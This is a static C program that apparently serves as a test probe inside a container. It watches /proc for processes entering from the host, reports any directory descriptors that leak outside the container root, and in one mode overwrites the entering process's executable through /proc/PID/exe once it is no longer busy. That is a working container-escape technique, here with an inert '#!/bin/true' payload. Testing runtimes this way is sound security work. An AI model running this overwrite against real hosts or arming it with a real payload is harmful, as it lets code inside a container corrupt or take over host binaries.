// Watches a container's /proc for processes on their way in, and takes what it can get.
// Static, since it is copied into a rootfs without libraries.
//   spy fds SECONDS         prints a line for each descriptor of another process that leads out of
//   our root spy overwrite SECONDS   overwrites the program of any process that came from outside;
//   prints what it did
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int same_file(const struct stat* a, const struct stat* b) {
  return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

// Climbs from a directory to the root that it belongs to, and compares that with ours.
static int leads_outside(int directory) {
  struct stat ours, here, above;
  stat("/", &ours);
  int fd = dup(directory);
  for (int depth = 0; depth < 64 && fstat(fd, &here) == 0; depth++) {
    if (same_file(&here, &ours)) break;
    int up = openat(fd, "..", O_PATH | O_DIRECTORY);
    if (up < 0) break;
    fstat(up, &above);
    close(fd);
    fd = up;
    if (same_file(&here, &above)) break;
  }
  int outside = fstat(fd, &here) == 0 && !same_file(&here, &ours);
  close(fd);
  return outside;
}

static void look_at_fds(const char* pid) {
  char path[300], target[4096];
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR* fds = opendir(path);
  if (fds == NULL) return;
  for (struct dirent* entry; (entry = readdir(fds)) != NULL;) {
    struct stat status;
    if (entry->d_name[0] == '.') continue;
    int fd = openat(dirfd(fds), entry->d_name, O_PATH);
    if (fd < 0) continue;
    if (fstat(fd, &status) == 0 && S_ISDIR(status.st_mode) && leads_outside(fd)) {
      ssize_t length = readlinkat(dirfd(fds), entry->d_name, target, sizeof target);
      printf("LEAK pid %s fd %s %.*s\n", pid, entry->d_name, (int)(length < 0 ? 0 : length),
             target);
    }
    close(fd);
  }
  closedir(fds);
}

static int is_ours(const struct stat* program) {
  const char* names[] = {"/proc/self/exe", "/bin/busybox", "/bin/probe"};
  struct stat ours;
  for (int i = 0; i < 3; i++) {
    if (stat(names[i], &ours) == 0 && same_file(&ours, program)) return 1;
  }
  return 0;
}

// The program of a process that entered from outside: keep it by an O_PATH descriptor, then open
// that for writing again and again, until the process is gone and the file not busy any more.
static void overwrite_program(const char* pid) {
  char path[300], again[64];
  struct stat program;
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int fd = open(path, O_PATH);
  if (fd < 0) return;
  if (fstat(fd, &program) != 0 || is_ours(&program)) {
    close(fd);
    return;
  }
  snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
  printf("GOT program of pid %s\n", pid);
  for (int attempt = 0; attempt < 20000; attempt++) {
    int writable = open(again, O_WRONLY | O_TRUNC);
    if (writable >= 0) {
      printf("OVERWROTE %s\n", path);
      if (write(writable, "#!/bin/true\n", 12) < 0) perror("write");
      close(writable);
      break;
    }
    if (errno != ETXTBSY) break;
  }
  close(fd);
}

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  time_t end = time(NULL) + atoi(argv[2]);
  char own[32];
  snprintf(own, sizeof own, "%d", getpid());
  setvbuf(stdout, NULL, _IOLBF, 0);
  puts("watching");
  while (time(NULL) < end) {
    DIR* proc = opendir("/proc");
    for (struct dirent* entry; proc != NULL && (entry = readdir(proc)) != NULL;) {
      if (!isdigit((unsigned char)entry->d_name[0]) || strcmp(entry->d_name, own) == 0) continue;
      if (strcmp(argv[1], "fds") == 0) look_at_fds(entry->d_name);
      if (strcmp(argv[1], "overwrite") == 0) overwrite_program(entry->d_name);
    }
    if (proc != NULL) closedir(proc);
  }
  return 0;
}
